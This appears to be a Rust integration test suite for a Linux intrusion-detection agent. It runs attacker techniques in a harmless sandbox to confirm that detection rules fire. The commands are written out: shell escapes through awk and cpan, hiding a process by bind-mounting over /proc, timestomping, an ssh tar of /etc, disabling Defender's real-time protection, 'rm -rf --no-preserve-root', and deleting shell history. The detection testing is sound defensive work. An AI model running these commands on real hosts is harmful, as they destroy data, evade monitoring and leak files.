//! End to end as root: the rules added for the attack-suite coverage fire on
//! the real tools. Every behaviour is performed so it cannot harm the host:
//! the reboot runs in namespaces of its own without CAP_SYS_BOOT and with an
//! empty /run (no systemd to ask), the bind mount lands in a private mount
//! namespace, swapoff and passwd are given a swap file and an account that
//! do not exist, files are scratch files removed afterwards.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

mod common;
use common::Cleanup;
use common::RulesAgent as Agent;

/// Runs a command to completion and returns its pid (the exec'd program's).
fn run(argv: &[&str]) -> u32 {
    common::run_quiet(common::argv(argv).stdin(Stdio::null())).0
}

fn tool(p: &str) -> &str {
    assert!(Path::new(p).exists(), "{p} is needed by this test");
    p
}

fn cmdline(a: &serde_json::Value) -> String {
    a["process"]["command_line"]
        .as_str()
        .unwrap_or("")
        .to_string()
}

#[test]
fn coverage_rules_fire_on_real_tools() {
    let Some(agent) = Agent::start("coverage_rules_fire_on_real_tools", None) else {
        return;
    };
    std::thread::sleep(Duration::from_millis(500));
    let dir = std::env::temp_dir().join(vigil_tests::unique_marker("vg-cov"));
    std::fs::create_dir_all(&dir).unwrap();
    let mut cleanup = Cleanup(vec![dir.clone()]);

    // reboot, sandboxed: own pid/mount/net namespaces, no CAP_SYS_BOOT, empty /run
    tool("/usr/sbin/reboot");
    run(&[
        tool("/usr/bin/unshare"),
        "--mount",
        "--pid",
        "--net",
        "--fork",
        "--kill-child",
        tool("/usr/bin/setpriv"),
        "--bounding-set",
        "-sys_boot",
        "/bin/sh",
        "-c",
        "mount -t tmpfs tmpfs /run && exec /usr/sbin/reboot",
    ]);
    let a = agent.expect("system_shutdown_command", |a| {
        a["process"]["name"] == "reboot"
    });
    // setpriv and sh exec in place: the forked child of unshare, pid 1 of
    // its namespace, is the reboot
    assert_eq!(a["process"]["parent"]["name"], "unshare", "{a}");
    assert_eq!(a["vigil"]["process"]["ns_pid"], 1, "{a}");

    // awk's system() starts a shell; busybox asked for one
    let pid = run(&[tool("/usr/bin/awk"), "BEGIN {system(\"true\")}"]);
    let a = agent.expect("shell_spawned_by_tool_escape", |a| {
        a["process"]["parent"]["pid"] == pid
    });
    assert_eq!(a["process"]["name"], "sh", "{a}");
    let pid = run(&[tool("/usr/bin/busybox"), "sh", "-c", "true"]);
    agent.expect("shell_spawned_by_tool_escape", |a| {
        a["process"]["pid"] == pid
    });

    // python -c running a command
    let pid = run(&[
        tool("/usr/bin/python3"),
        "-c",
        "import os; os.system('true')",
    ]);
    agent.expect("python_inline_command_exec", |a| a["process"]["pid"] == pid);

    // a bind mount over /proc/PID, in a private mount namespace
    let empty = dir.join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let script = format!(
        "sleep 5 & p=$!; mount -B {} /proc/$p; kill $p",
        empty.display()
    );
    run(&[
        tool("/usr/bin/unshare"),
        "--mount",
        "/bin/sh",
        "-c",
        &script,
    ]);
    let a = agent.expect("process_hidden_by_bind_mount", |a| {
        a["process"]["name"] == "mount" && cmdline(a).contains(empty.to_str().unwrap())
    });
    assert!(cmdline(&a).contains(" /proc/"), "{a}");

    // a file capability on a scratch file
    let f = dir.join("evil");
    std::fs::write(&f, "x").unwrap();
    let pid = run(&[
        tool("/usr/sbin/setcap"),
        "cap_setuid=ep",
        f.to_str().unwrap(),
    ]);
    agent.expect("file_capability_granted", |a| a["process"]["pid"] == pid);

    // swapoff of a swap file that does not exist (the host's swap untouched)
    let noswap = dir.join("no-such-swap");
    let pid = run(&[tool("/usr/sbin/swapoff"), noswap.to_str().unwrap()]);
    agent.expect("swap_disabled", |a| a["process"]["pid"] == pid);

    // passwd for an account that does not exist (nothing changes)
    let pid = run(&[tool("/usr/bin/passwd"), "vigil-no-such-user"]);
    agent.expect("other_user_password_changed", |a| {
        a["process"]["pid"] == pid
    });

    // touch -acmr copies another file's times
    let r = dir.join("ref");
    std::fs::write(&r, "r").unwrap();
    let pid = run(&[
        tool("/usr/bin/touch"),
        "-acmr",
        r.to_str().unwrap(),
        f.to_str().unwrap(),
    ]);
    agent.expect("file_timestomp", |a| a["process"]["pid"] == pid);

    // a POSIX shell's ~/.history read
    let h = dir.join(".history");
    std::fs::write(&h, "mysql -p secret\n").unwrap();
    let pid = run(&[tool("/usr/bin/cat"), h.to_str().unwrap()]);
    agent.expect("shell_history_read", |a| a["process"]["pid"] == pid);

    // a mailbox in the spool written by a shell redirection, then removed
    let spool = if Path::new("/var/mail").is_dir() {
        "/var/mail"
    } else {
        "/var/spool/mail"
    };
    let mbox = PathBuf::from(spool).join(vigil_tests::unique_marker("vgmbox"));
    cleanup.0.push(mbox.clone());
    let script = format!("echo 0 > {0}; rm -f {0}", mbox.display());
    let pid = run(&["/bin/sh", "-c", &script]);
    let a = agent.expect("mailbox_tampered", |a| {
        a["file"]["path"] == mbox.to_str().unwrap()
    });
    assert!(
        a["process"]["pid"] == pid || a["process"]["parent"]["pid"] == pid,
        "{a}"
    );
    drop(cleanup);
}

#[test]
fn coverage_hunting_rules_fire_on_real_tools() {
    let hunting = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/optional/hunting.yaml@info");
    let Some(agent) = Agent::start("coverage_hunting_rules_fire_on_real_tools", Some(&hunting))
    else {
        return;
    };
    std::thread::sleep(Duration::from_millis(500));
    let dir = std::env::temp_dir().join(vigil_tests::unique_marker("vg-covh"));
    std::fs::create_dir_all(&dir).unwrap();
    let _c = Cleanup(vec![dir.clone()]);

    let pid = run(&[tool("/usr/bin/hostname")]);
    agent.expect("hunt_host_environment_discovery", |a| {
        a["process"]["pid"] == pid
    });
    let pid = run(&[
        tool("/usr/bin/find"),
        dir.to_str().unwrap(),
        "-perm",
        "-4000",
    ]);
    agent.expect("hunt_suid_search", |a| a["process"]["pid"] == pid);
    let pid = run(&[tool("/usr/bin/base64"), "/etc/hostname"]);
    agent.expect("hunt_data_encoding", |a| a["process"]["pid"] == pid);
    let pid = run(&[
        tool("/usr/bin/curl"),
        "-s",
        "-m",
        "1",
        "-A",
        "HttpBrowser/1.0",
        "http://127.0.0.1:1/",
    ]);
    agent.expect("hunt_custom_user_agent", |a| a["process"]["pid"] == pid);

    // a drop_caches write attempted by an unprivileged shell: refused (EACCES),
    // so the host's page cache stays, and still reported
    let pid = run(&[
        tool("/usr/bin/setpriv"),
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "/bin/sh",
        "-c",
        "echo 3 > /proc/sys/vm/drop_caches",
    ]);
    let a = agent.expect("hunt_page_cache_dropped", |a| a["process"]["pid"] == pid);
    assert_eq!(a["event"]["outcome"], "failure", "{a}");
    assert_eq!(a["process"]["name"], "sh", "{a}");
}

/// Spawns a command with `stdin` as its input, waits at most `wait` for it
/// (then kills it) and returns its pid.
fn run_with(argv: &[&str], cwd: &Path, env: &[(&str, &str)], stdin: &str, wait: Duration) -> u32 {
    use std::io::Write;
    let mut child = Command::new(argv[0])
        .args(&argv[1..])
        .current_dir(cwd)
        .envs(env.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("{argv:?}: {e}"));
    let pid = child.id();
    let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
    let end = std::time::Instant::now() + wait;
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > end {
            let _ = child.kill();
            let _ = child.wait();
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    pid
}

#[test]
fn coverage_breadth_rules_fire_on_real_tools() {
    let Some(agent) = Agent::start("coverage_breadth_rules_fire_on_real_tools", None) else {
        return;
    };
    std::thread::sleep(Duration::from_millis(500));
    let dir = std::env::temp_dir().join(vigil_tests::unique_marker("vg-covb"));
    std::fs::create_dir_all(&dir).unwrap();
    let _c = Cleanup(vec![dir.clone()]);
    let me = std::process::id();

    // cpan's `! exec` replaces cpan with a shell: the shell's parent is
    // ours, the image it replaced is cpan (HOME is scratch: cpan's first-run
    // configuration lands there)
    let pid = run_with(
        &[tool("/usr/bin/cpan")],
        &dir,
        &[
            ("PERL_MM_USE_DEFAULT", "1"),
            ("HOME", dir.to_str().unwrap()),
        ],
        "! exec \"/bin/sh -c true\"\n",
        Duration::from_secs(60),
    );
    let a = agent.expect("shell_spawned_by_tool_escape", |a| {
        a["process"]["pid"] == pid
    });
    assert_eq!(a["process"]["name"], "sh", "{a}");
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");
    let replaced = a["vigil"]["exec"]["replaced"]["command_line"]
        .as_str()
        .unwrap_or("");
    assert!(replaced.ends_with("/usr/bin/cpan"), "{a}");

    // bash given a script below /tmp
    let script = dir.join("job.sh");
    std::fs::write(&script, "true\n").unwrap();
    let pid = run(&[tool("/bin/bash"), script.to_str().unwrap()]);
    let a = agent.expect("shell_script_from_temp_dir", |a| a["process"]["pid"] == pid);
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");
    assert_eq!(a["process"]["args"][1], script.to_str().unwrap(), "{a}");

    // compiled bytecode run directly
    let py = tool("/usr/bin/python3");
    let src = dir.join("s.py");
    let pyc = dir.join("s.pyc");
    std::fs::write(&src, "x = 1\n").unwrap();
    let compile = format!(
        "import py_compile; py_compile.compile({:?}, {:?}, doraise=True)",
        src.to_str().unwrap(),
        pyc.to_str().unwrap()
    );
    run(&[py, "-c", &compile]);
    assert!(pyc.exists(), "py_compile wrote no {}", pyc.display());
    let pid = run(&[py, pyc.to_str().unwrap()]);
    let a = agent.expect("python_bytecode_run", |a| a["process"]["pid"] == pid);
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");

    // ssh asked to stream a tar of /etc back (port 1: refused, nothing sent)
    let pid = run(&[
        tool("/usr/bin/ssh"),
        "-F",
        "/dev/null",
        "-o",
        "BatchMode=yes",
        "-o",
        "ConnectTimeout=1",
        "-p",
        "1",
        "127.0.0.1",
        "(cd /etc && tar -zcf - hostname)",
    ]);
    let a = agent.expect("archive_streamed_over_ssh", |a| a["process"]["pid"] == pid);
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");

    // python's http.server started in /tmp (loopback, any free port)
    let pid = run_with(
        &[py, "-m", "http.server", "--bind", "127.0.0.1", "0"],
        Path::new("/tmp"),
        &[],
        "",
        Duration::from_secs(2),
    );
    let a = agent.expect("http_server_on_sensitive_dir", |a| {
        a["process"]["pid"] == pid
    });
    assert_eq!(a["process"]["working_directory"], "/tmp", "{a}");

    // curl with a malware family's User-Agent (nothing listens on port 1)
    let pid = run(&[
        tool("/usr/bin/curl"),
        "-s",
        "-m",
        "1",
        "-A",
        "HttpBrowser/1.0",
        "http://127.0.0.1:1/",
    ]);
    let a = agent.expect("malware_user_agent_sent", |a| a["process"]["pid"] == pid);
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");

    // base64 data in the host name (*.localhost is loopback; port 1 refuses)
    let pid = run(&[
        tool("/usr/bin/curl"),
        "-s",
        "-m",
        "1",
        "http://MTExLTExLTExMTE=.vigil.localhost:1/",
    ]);
    let a = agent.expect("encoded_data_in_host_name", |a| a["process"]["pid"] == pid);
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");
    // Defender's real-time protection switched off through a wrapper (mdatp
    // is not installed here: env's exec of it fails, the request is seen)
    assert!(
        !Path::new("/usr/bin/mdatp").exists(),
        "this test expects no Defender on the host"
    );
    let pid = run(&[
        tool("/usr/bin/env"),
        "mdatp",
        "config",
        "real-time-protection",
        "--value",
        "disabled",
    ]);
    let a = agent.expect("security_tool_stopped", |a| a["process"]["pid"] == pid);
    assert_eq!(a["process"]["name"], "env", "{a}");

    // rm told not to protect /, given only a scratch path that does not exist
    let gone = dir.join("no-such-dir");
    let pid = run(&[
        tool("/usr/bin/rm"),
        "-rf",
        "--no-preserve-root",
        gone.to_str().unwrap(),
    ]);
    let a = agent.expect("data_destruction", |a| a["process"]["pid"] == pid);
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");

    // rm of a shell history file that is not there: the attempt alerts
    let hist = dir.join(".bash_history");
    let pid = run(&[tool("/usr/bin/rm"), hist.to_str().unwrap()]);
    let a = agent.expect("history_logging_disabled", |a| a["process"]["pid"] == pid);
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");
}
